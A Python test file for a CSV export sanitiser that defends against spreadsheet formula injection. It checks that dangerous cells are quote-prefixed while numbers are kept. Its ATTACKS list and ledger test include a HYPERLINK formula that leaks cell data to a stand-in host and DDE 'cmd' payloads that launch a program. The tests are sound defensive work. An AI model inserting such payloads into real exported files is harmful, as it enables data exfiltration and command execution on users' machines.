"""CSV formula injection (OWASP): cells a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from xueliang.csv_cells import FORMULA_START, safe_cell, safe_row

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _roundtrip(row: list[object]) -> list[str]:
    buf = io.StringIO()
    csv.writer(buf).writerow(safe_row(row))
    return next(csv.reader(io.StringIO(buf.getvalue())))


def test_attacks_are_prefixed_and_numbers_kept() -> None:
    assert _roundtrip(ATTACKS) == ["'" + a for a in ATTACKS]
    assert _roundtrip(["-12.5", "+3", "-1e5", 7, -4.5, "plain", ""]) == [
        "-12.5",
        "+3",
        "-1e5",
        "7",
        "-4.5",
        "plain",
        "",
    ]


@given(st.text())
def test_no_text_cell_reads_back_as_a_formula(text: str) -> None:
    out = safe_cell(text)
    assert isinstance(out, str)
    assert out == text or out == "'" + text
    if out.startswith(FORMULA_START):  # only plain numbers stay as they were
        float(out)


def test_ledger_rejection_report_escapes_values(tmp_path: Path) -> None:
    from tests.ledger.test_ledger_import import NOW, case, write_csv
    from xueliang.ledger.io import read_ledger, write_rejections

    bad = '=HYPERLINK("http://evil.example/","x")'
    f = write_csv(tmp_path / "l.csv", [case("OK1"), case("F1", occurred_start=bad), case("F2", area="x", lon=bad)])
    parsed = read_ledger(f, now=NOW)
    report = tmp_path / "report.csv"
    write_rejections(report, parsed)
    lines = report.read_text(encoding="utf-8").splitlines()
    values = [r["value"] for r in csv.DictReader(lines)]
    assert "'" + bad in values and bad not in values
    assert not any(v.startswith(FORMULA_START) for r in csv.reader(lines) for v in r)
